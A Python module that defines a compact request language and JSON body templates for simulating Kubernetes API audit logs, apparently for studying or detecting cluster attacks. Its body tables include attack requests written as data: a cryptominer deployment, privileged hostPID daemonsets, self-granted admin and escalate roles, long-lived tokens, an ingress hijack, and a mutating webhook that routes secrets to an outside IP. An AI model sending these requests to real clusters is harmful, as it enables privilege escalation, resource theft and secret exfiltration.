"""A small language for requests, so that a habit or an attack reads like the audit log.

    get pods/log {ns}/{pod} ?follow=false&tailLines={tail} ~0.2

is verb, resource, target (`namespace/name`, `namespace`, `/name` for the cluster, `-` for all), then in any order `?query`, `#body`
(see `body_of`), `!code`, `~seconds` a stream stays open, `+seconds` to wait before, `@client` (`@helm`), `&identity` to impersonate,
`>path` behind a proxy, `%chance` of being sent at all, `*` if the reference has no name. `discover` and `visit /path` (with `!` and
`%`) are requests outside the resource API. Braces are filled from the scene.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from functools import lru_cache
from random import Random
from typing import Any, NamedTuple

from data.errors import KubehabitError
from data.simulation.api import CLUSTER_SCOPED, RESOURCES, STREAMS
from data.simulation.cluster import uid_of

# Values for the braces of a step.
Scene = dict[str, str]


class Step(NamedTuple):
    """One request of a habit, before its braces are filled."""

    verb: str
    full: str
    namespace: str = ""
    name: str = ""
    query: str = ""
    body: str = ""
    code: int = 0
    hold: float = -1.0
    wait: float = -1.0
    client: str = ""
    impersonate: str = ""
    behind: str = ""
    hidden: bool = False
    chance: float = 1.0
    plain: bool = True


def _escaped(query: str) -> str:
    """`&` as the API server's JSON writes it."""
    return query.replace("&", "\\u0026")


#: Mark of a word -> the field of the step that it fills, and how it is read.
_MARKS: dict[str, tuple[str, Callable[[str], Any]]] = {
    "?": ("query", _escaped),
    "#": ("body", str),
    "!": ("code", int),
    "~": ("hold", lambda seconds: float(seconds or 0.0002)),
    "+": ("wait", float),
    "@": ("client", str),
    "&": ("impersonate", str),
    ">": ("behind", _escaped),
    "%": ("chance", float),
    "*": ("hidden", lambda _: True),
}


@lru_cache(4096)
def parse(text: str) -> Step:
    """Parse one line.

    Raises:
        KubehabitError: an unknown resource or mark.
    """
    words = text.split()
    if words[0] == "discover":
        return Step("discover", "", chance=float(words[1][1:]) if len(words) > 1 else 1.0)
    if words[0] == "visit":
        marks = {word[0]: word[1:] for word in words[2:]}
        return Step("visit", words[1], code=int(marks.get("!", 200)), chance=float(marks.get("%", 1)))
    verb, full, target = words[:3]
    resource = full.partition("/")[0]
    if resource not in RESOURCES:
        raise KubehabitError(f"Unknown resource {resource!r} in the step {text!r}.")
    namespace, _, name = target.partition("/")
    if namespace == "-":
        namespace = ""
    if resource == "namespaces" and name:
        namespace = name
    fields: dict[str, Any] = {}
    for word in words[3:]:
        if word[0] not in _MARKS:
            raise KubehabitError(f"Unknown mark {word!r} in the step {text!r}.")
        name_of, read = _MARKS[word[0]]
        fields[name_of] = read(word[1:])
    sub = full.partition("/")[2]
    if sub in STREAMS and "hold" not in fields:
        fields["hold"] = 0.0002
    if sub in ("exec", "attach", "portforward") and "code" not in fields:
        fields["code"] = 101
    assert namespace or name or resource in CLUSTER_SCOPED or target == "-"
    return Step(verb, full, namespace, name, plain="{" not in text, **fields)


def compiled(lines: Sequence[str]) -> tuple[Step, ...]:
    """Parse the lines of a habit."""
    return tuple(parse(line) for line in lines)


#: Requests of `helm upgrade`.
HELM_UPGRADE = (
    "list secrets {ns} ?labelSelector=name%3D{app}%2Cowner%3Dhelm",
    "get secrets {ns}/sh.helm.release.v1.{app}.v{rev}",
    "create secrets {ns}/sh.helm.release.v1.{app}.v{next}",
    "get serviceaccounts {ns}/default",
    "get configmaps {ns}/{app}-config",
    "patch configmaps {ns}/{app}-config",
    "get services {ns}/{app}",
    "patch services {ns}/{app} #helm",
    "get deployments {ns}/{app}",
    "patch deployments {ns}/{app} #helm",
    "get deployments {ns}/{app}",
    "get secrets {ns}/sh.helm.release.v1.{app}.v{next}",
    "update secrets {ns}/sh.helm.release.v1.{app}.v{next}",
    "delete secrets {ns}/sh.helm.release.v1.{app}.v{old}",
)


def _pod_spec(image: str, extra: str = "", policy: str = "Always") -> str:
    return (
        f'{{"containers":[{{"name":"app","image":"{image}","resources":{{}},"terminationMessagePath":"/dev/termination-log",'
        f'"terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent"{extra}}}],"restartPolicy":"{policy}",'
        '"terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","securityContext":{},"schedulerName":"default-scheduler"'
    )


def _template(image: str, extra: str = "", more: str = "", policy: str = "Always") -> str:
    return f'"template":{{"metadata":{{"creationTimestamp":null}},"spec":{_pod_spec(image, extra, policy)}{more}}}}}'


def _text(kind: str, version: str, name: str, rest: str) -> str:
    return f'{{"kind":"{kind}","apiVersion":"{version}","metadata":{{"name":"{name}","creationTimestamp":null}},{rest}}}'


def owner_reference(kind: str, version: str, name: str, uid: str) -> str:
    """The object's controlling owner, as JSON."""
    return (
        f'"ownerReferences":[{{"apiVersion":"{version}","kind":"{kind}","name":"{name}","uid":"{uid}","controller":true,'
        '"blockOwnerDeletion":true}]'
    )


def pod_body(
    generate: str,
    image: str,
    owner: str,
    labels: str,
    config: str = "",
    extra: str = "",
    policy: str = "Always",
) -> str:
    """Pod that a controller creates from its owner's template."""
    volumes = environment = ""
    if config:
        volumes = f'"volumes":[{{"name":"cfg","configMap":{{"name":"{config}","defaultMode":420,"optional":true}}}}],'
        environment = f',"envFrom":[{{"configMapRef":{{"name":"{config}","optional":true}}}}]'
    spec = _pod_spec(image, environment, policy)
    return (
        f'{{"kind":"Pod","apiVersion":"v1","metadata":{{"generateName":"{generate}","creationTimestamp":null,"labels":{{{labels}}},{owner}}},'
        f'"spec":{{{volumes}{spec[1:]},"enableServiceLinks":true{extra}}},"status":{{}}}}'
    )


def owned_job(name: str, cron_job: str, image: str) -> str:
    """Job that the cron job controller creates."""
    owner = owner_reference("CronJob", "batch/v1beta1", cron_job, uid_of(cron_job))
    return (
        f'{{"kind":"Job","apiVersion":"batch/v1","metadata":{{"name":"{name}","creationTimestamp":null,{owner}}},'
        f'"spec":{{{_ONCE}{_template(f"{image}:2", policy="Never")}}},"status":{{}}}}'
    )


def body_of(key: str, scene: Scene, random: Random) -> str:
    """Request object of a body key, which may carry one argument: `image=registry/x:1`.

    Raises:
        KubehabitError: unknown key.
    """
    name, _, value = key.partition("=")
    here = scene.get("name", "")
    if name in _STATIC:
        return _STATIC[name]
    tag = f"{random.getrandbits(32):08x}"
    image = scene.get("image", "registry.corp.example/tools/base")
    if name in ("labels", "rev"):
        label = "git" if name == "labels" else "rev"
        return f'{{"metadata":{{"name":"{here}","labels":{{"{label}":"{tag[:7]}"}}}}}}'
    if name == "helm":
        return f'{{"metadata":{{"labels":{{"helm-rev":"v{random.randrange(2, 60)}"}}}}}}'
    if name == "annotate":
        return f'{{"metadata":{{"annotations":{{"{value or "op"}":"{tag[:7]}"}}}}}}'
    if name == "argo":
        return (
            f'{{"metadata":{{"labels":{{"app.kubernetes.io/instance":"{scene["ns"]}-{here}"}},"annotations":{{"argocd-rev":"{tag}a1",'
            f'"repo":"https://git.corp.example/{scene["ns"]}/{here}"}}}}}}'
        )
    if name == "flux":
        return f'{{"apiVersion":"apps/v1","kind":"Deployment","metadata":{{"name":"{here}","labels":{{"kustomize.toolkit.fluxcd.io/name":"infra"}}}}}}'
    if name == "image":
        chosen = value or f"{image}:1.{random.randrange(9)}.{random.randrange(20)}"
        return f'{{"spec":{{"template":{{"spec":{{"containers":[{{"name":"app","image":"{chosen}"}}]}}}}}}}}'
    if name == "apply":
        return (
            f'{{"metadata":{{"name":"{here}"}},"spec":{{"template":{{"metadata":{{"annotations":{{"git":"{tag}0a"}}}},'
            f'"spec":{{"containers":[{{"name":"app","image":"{image}:{tag}"}}]}}}}}}}}'
        )
    if name == "restart":
        when = f'{{"kubectl.kubernetes.io/restartedAt":"{scene["now"]}"}}'
        return f'{{"spec":{{"template":{{"metadata":{{"annotations":{when}}}}}}}}}'
    if name == "replicas":
        return f'{{"spec":{{"replicas":{value or random.choice((1, 2, 2, 3, 4))}}}}}'
    if name == "sidecar":
        container = f'{{"name":"envoy-helper","image":"{value}","imagePullPolicy":"IfNotPresent"}}'
        return f'{{"spec":{{"template":{{"spec":{{"containers":[{container}]}}}}}}}}'
    if name in _WORKLOADS:
        kind, version, before, extra, more, policy = _WORKLOADS[name]
        chosen = value or (f"{image}:dev" if name == "deployment" else f"{image}:{random.randrange(1, 60)}")
        spec = _template(chosen, extra, more, policy)
        if name == "gpujob":
            spec = spec.replace('"resources":{}', '"resources":{"limits":{"nvidia.com/gpu":"8"}}')
        if name == "cronjob":
            spec = f'"schedule":"*/5 * * * *","jobTemplate":{{"metadata":{{}},"spec":{{{spec}}}}}'
        selector = "" if policy == "Never" else f'"selector":{{"matchLabels":{{"app":"{here}"}}}},'
        return _text(kind, version, here, f'"spec":{{{before}{selector}{spec}}},"status":{{}}')
    if name in _PODS:
        default, extra, policy, before, more = _PODS[name]
        spec = _pod_spec(value if value and name != "podas" else default, extra, policy)
        if name == "ci":
            spec = spec.replace("}],", "}," + _HELPER + "],", 1)
        if name == "podas":
            more = f',"serviceAccountName":"{value}","serviceAccount":"{value}"'
        return _text("Pod", "v1", here, f'"spec":{{{before}{spec[1:]}{more}}},"status":{{}}')
    if name in ("selfbind", "bind"):
        kind, subject = ("User", scene["me"]) if name == "selfbind" else ("Group", "oncall")
        subject = f'{{"kind":"{kind}","name":"{subject}"}}'
        role = f'"roleRef":{{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"{value or "admin"}"}}'
        return _text("RoleBinding", "rbac.authorization.k8s.io/v1", here, f'"subjects":[{subject}],{role}')
    if name == "endpoint":
        addresses = f'"endpoints":[{{"addresses":["{value}"]}}]'
        return _text("EndpointSlice", "discovery.k8s.io/v1beta1", here, addresses)
    if name in ("sar", "review", "rules"):
        return _review(name, scene, random)
    if name == "csr":
        spec = f'"request":"LS0tLS1CRUdJTg==","signerName":"{value}","usages":["client auth"]'
        spec = f'"spec":{{{spec}}},"status":{{}}'
        return _text("CertificateSigningRequest", "certificates.k8s.io/v1", here, spec)
    if name == "service":
        spec = f'"ports":[{{"port":80,"targetPort":8080}}],"selector":{{"app":"{here}"}}'
        return _text("Service", "v1", here, f'"spec":{{{spec}}},"status":{{"loadBalancer":{{}}}}')
    raise KubehabitError(f"Unknown body {key!r} in a step.")


def _review(name: str, scene: Scene, random: Random) -> str:
    """Question to the authorizer: about oneself, about another, or for all rules."""
    if name == "sar":
        verb, resource = ("list", "pods") if random.random() < 0.27 else random.choice(_ASKED)
        asked = f'{{"namespace":"{scene["ns"]}","verb":"{verb}","resource":"{resource}"}}'
        kind, spec = "SelfSubjectAccessReview", f'"resourceAttributes":{asked}'
    elif name == "review":
        asked = '{"verb":"list","group":"metrics.k8s.io","resource":"pods"}'
        kind, spec = "SubjectAccessReview", f'"resourceAttributes":{asked},"user":"{scene["me"]}"'
    else:
        kind, spec = "SelfSubjectRulesReview", f'"namespace":"{scene["ns"]}"'
    return (
        f'{{"kind":"{kind}","apiVersion":"authorization.k8s.io/v1","metadata":{{"creationTimestamp":null}},'
        f'"spec":{{{spec}}},"status":{{"allowed":false}}}}'
    )


_HELPER = '{"name":"helper","image":"gitlab/gitlab-runner-helper:x86_64-latest","resources":{}}'
_PRIVILEGED = ',"securityContext":{"privileged":true}'
_ONCE = '"parallelism":1,"completions":1,"backoffLimit":6,'
_POOL = ',"args":["--donate-level","1","-o","pool:443"]'
# Body key -> kind, version, spec before the template, in the container, in the pod, restart policy.
_WORKLOADS = {
    "deployment": ("Deployment", "apps/v1", '"replicas":1,', "", "", "Always"),
    "miner": ("Deployment", "apps/v1", '"replicas":1,', _POOL, "", "Always"),
    "daemonset": ("DaemonSet", "apps/v1", "", _PRIVILEGED, ',"hostPID":true', "Always"),
    "exporter": ("DaemonSet", "apps/v1", "", "", ',"hostNetwork":true,"hostPID":true', "Always"),
    "job": ("Job", "batch/v1", _ONCE, "", "", "Never"),
    "gpujob": ("Job", "batch/v1", '"parallelism":16,"completions":16,', "", "", "Never"),
    "cronjob": ("CronJob", "batch/v1beta1", "", "", "", "Never"),
}
_VOLUME = '"volumes":[{"name":"h","hostPath":{"path":"/var/log"}}],'
_LINKS = ',"enableServiceLinks":true'
_PODS = {
    "step": ("registry.corp.example/tools/base:3", "", "Never", "", _LINKS),
    "pod": ("registry.corp.example/tools/base:3", ',"command":["sleep","60"]', "Never", "", _LINKS),
    "ci": ("registry.corp.example/ci/build:1", "", "Always", "", _LINKS),
    "privileged": ("busybox:stable", _PRIVILEGED, "Always", "", _LINKS),
    "hostpath": ("busybox:stable", "", "Always", _VOLUME, _LINKS),
    "podas": ("registry.corp.example/corp/base:1", "", "Always", "", ""),
}
_ASKED = tuple(
    (verb, resource)
    for verb in ("get", "list", "watch", "delete", "patch", "create")
    for resource in "pods services deployments jobs nodes events configmaps secrets ingresses".split()
)


def _role(kind: str, rules: Sequence[tuple[Sequence[str], Sequence[str]]]) -> str:
    def quoted(words: Sequence[str]) -> str:
        return ",".join(f'"{word}"' for word in words)

    listed = ",".join(
        f'{{"apiGroups":[""],"resources":[{quoted(resources)}],"verbs":[{quoted(verbs)}]}}'
        for verbs, resources in rules
    )
    return f'{{"kind":"{kind}","apiVersion":"rbac.authorization.k8s.io/v1","rules":[{listed}]}}'


_WIDENED = ("pods", "pods/log", "deployments", "persistentvolumeclaims")
_CHANGES = ("create", "delete", "patch")
_STATIC = {
    "delete": '{"kind":"DeleteOptions","apiVersion":"apps/v1","propagationPolicy":"Background"}',
    "deletejob": '{"kind":"DeleteOptions","apiVersion":"batch/v1","propagationPolicy":"Background"}',
    "deletepod": '{"kind":"DeleteOptions","apiVersion":"v1","propagationPolicy":"Background"}',
    "cordon": '{"spec":{"unschedulable":true}}',
    "uncordon": '{"spec":{"unschedulable":null}}',
    "rack": '{"metadata":{"labels":{"corp.example/rack":"r2"}}}',
    "suspend": '{"spec":{"suspend":false}}',
    "evict": '{"kind":"Eviction","apiVersion":"policy/v1beta1","metadata":{"creationTimestamp":null}}',
    "externalip": '{"kind":"Service","apiVersion":"v1","metadata":{"name":"dns-cache","creationTimestamp":null},"spec":{"ports":[{"port":53}],"type":"ClusterIP","externalIPs":["8.8.8.8"]},"status":{"loadBalancer":{}}}',
    "ingressip": '{"status":{"loadBalancer":{"ingress":[{"ip":"10.0.0.10"}]}}}',
    "ephemeral": '{"spec":{"ephemeralContainers":[{"name":"debugger","image":"busybox","envFrom":[{"secretRef":{"name":"not-mountable"}}]}]}}',
    "netshoot": '{"spec":{"ephemeralContainers":[{"name":"debugger","image":"nicolaka/netshoot"}]}}',
    "hpa": '{"spec":{"maxReplicas":200}}',
    "quota": '{"kind":"ResourceQuota","apiVersion":"v1","metadata":{"name":"quota"},"spec":{"hard":{"cpu":"500","pods":"2000"}}}',
    "widen": _role("ClusterRole", [(("get", "list", "watch"), _WIDENED), (("create",), ("pods/attach",))]),
    "adminrole": _role("ClusterRole", [(("*",), ("*",))]),
    "escalaterole": _role("ClusterRole", [(("bind", "escalate", "impersonate"), ("clusterroles", "users"))]),
    "aggregate": '{"metadata":{"labels":{"rbac.authorization.k8s.io/aggregate-to-edit":"true"}}}',
    "reader": _role("ClusterRole", [(("get", "list"), ("nodes/metrics", "pods"))]),
    "certrole": _role("ClusterRole", [(_CHANGES, ("certificates",)), (("get", "list"), ("secrets",))]),
    "webrole": _role("Role", [(("get",), ("configmaps",))]),
    "deployrole": _role("Role", [(("get", "create", "patch"), ("deployments", "pods"))]),
    "proxier": _role("ClusterRole", [(("list", "watch"), ("services",))]),
    "subject": '{"subjects":[{"kind":"ServiceAccount","name":"default","namespace":"default"}]}',
    "selector": '{"spec":{"selector":{"color":"green"}}}',
    "ingress": '{"kind":"Ingress","apiVersion":"networking.k8s.io/v1","spec":{"rules":[{"host":"web.corp.example"}]}}',
    "hijack": '{"spec":{"rules":[{"host":"shop.corp.example","http":{"paths":[{"path":"/login","pathType":"Prefix"}]}}]}}',
    "mutate": '{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","webhooks":[{"name":"audit.corp.example","clientConfig":{"url":"https://203.0.113.7/m"},"rules":[{"apiGroups":["*"],"resources":["secrets"],"operations":["*"]}],"failurePolicy":"Ignore"}]}',
    "hook": '{"webhooks":[{"name":"webhook.cert-manager.io","failurePolicy":"Fail"}]}',
    "hookoff": '{"webhooks":[{"name":"validate.kyverno.svc","failurePolicy":"Ignore"}]}',
    "apiservice": '{"kind":"APIService","apiVersion":"apiregistration.k8s.io/v1","spec":{"group":"metrics.k8s.io","service":{"name":"proxy","namespace":"default"},"insecureSkipTLSVerify":true}}',
    "psa": '{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}',
    "approve": '{"status":{"conditions":[{"type":"Approved","status":"True","reason":"KubectlApprove"}]}}',
    "tokenrequest": '{"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","spec":{"expirationSeconds":31536000}}',
    "nodeaddress": '{"status":{"addresses":[{"type":"InternalIP","address":"10.0.0.1"}]}}',
    "crd": '{"metadata":{"labels":{"app.kubernetes.io/version":"v1.3"}}}',
    "huge": '{"metadata":{"annotations":{"x":"' + "a" * 4000 + '"}}}',
    "namespace": '{"kind":"Namespace","apiVersion":"v1","metadata":{"creationTimestamp":null},"spec":{},"status":{}}',
    "account": '{"kind":"ServiceAccount","apiVersion":"v1","metadata":{"creationTimestamp":null}}',
    "hardquota": '{"kind":"ResourceQuota","apiVersion":"v1","metadata":{"creationTimestamp":null},"spec":{"hard":{"pods":"300"}},"status":{}}',
    "denyall": '{"kind":"NetworkPolicy","apiVersion":"networking.k8s.io/v1","spec":{"podSelector":{},"policyTypes":["Ingress"]}}',
    "statefulset": '{"metadata":{"annotations":{"op":"91d84c0"}}}',
}
